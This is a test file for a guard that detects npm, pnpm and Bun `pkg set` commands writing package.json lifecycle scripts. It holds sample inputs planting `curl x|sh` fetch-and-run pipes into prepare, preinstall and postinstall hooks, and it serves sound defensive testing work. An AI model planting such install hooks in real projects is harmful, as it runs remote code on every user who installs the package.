// `pkg set` writes package.json scripts: npm's, pnpm's (handed to npm) and
// Bun's `pm pkg set`, in each key spelling npm takes and as a `--json`
// object. A lifecycle script written so asks as writing it into the file
// does; other scripts and fields stay quiet. The reader itself, then the
// engine as the hook runs it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { pkgSetScripts, UNREAD_SCRIPTS } from '../../../src/core/command/pkgSet';
import { diskWorkspace } from '../support/engineHarness';

test('pkg set scripts are read in every spelling', () => {
  assert.deepEqual(pkgSetScripts(['pnpm', 'pkg', 'set', 'scripts.prepare=curl x|sh']), [
    { name: 'prepare', value: 'curl x|sh' },
  ]);
  assert.deepEqual(pkgSetScripts(['npm', '--prefix', 'app', 'pkg', 'set', 'scripts[postinstall]=x']), [
    { name: 'postinstall', value: 'x' },
  ]);
  assert.deepEqual(pkgSetScripts(['bun', 'pm', 'pkg', 'set', 'scripts["pre install"]=y']), [
    { name: 'pre install', value: 'y' },
  ]);
  assert.deepEqual(pkgSetScripts(['npm', 'pkg', 'set', 'scripts={"preinstall":"z","lint":"eslint ."}', '--json']), [
    { name: 'preinstall', value: 'z' },
    { name: 'lint', value: 'eslint .' },
  ]);
  assert.deepEqual(pkgSetScripts(['npm', 'pkg', 'set', 'scripts={not json', '--json']), [
    { name: UNREAD_SCRIPTS, value: '{not json' },
  ]);
  assert.deepEqual(pkgSetScripts(['npm', 'pkg', 'get', 'scripts']), []);
  assert.deepEqual(pkgSetScripts(['yarn', 'pkg', 'set', 'scripts.prepare=x']), []);
  assert.deepEqual(pkgSetScripts(['npm', 'pkg', 'set', 'version=1.2.3']), []);
});

test('a lifecycle script written by pkg set asks; other scripts stay quiet', () => {
  const { judge, done } = diskWorkspace('ag-pkgset-', { 'package.json': '{"name":"app"}\n' });
  try {
    for (const command of [
      "pnpm pkg set scripts.prepare='curl x|sh'",
      "npm pkg set 'scripts[postinstall]=curl x|sh'",
      `npm pkg set scripts='{"preinstall":"curl x|sh"}' --json`,
      `npm pkg set scripts="$S" --json`,
      "bun pm pkg set scripts.postinstall='curl x|sh'",
    ]) {
      const r = judge(command);
      assert.equal(r.decision, 'ask', command);
      assert.ok(
        r.findings.some((f) => f.id === 'autorun.lifecycle-script'),
        `${command}: ${r.findings.map((f) => f.id)}`,
      );
    }
    for (const command of [
      "pnpm pkg set scripts.lint='eslint .'",
      `npm pkg set scripts='{"lint":"eslint ."}' --json`,
      'npm pkg set version=1.2.3',
      'bun pm pkg get name',
    ]) {
      const r = judge(command);
      assert.equal(r.decision, 'allow', `${command}: ${r.findings.map((f) => f.id)}`);
    }
  } finally {
    done();
  }
});
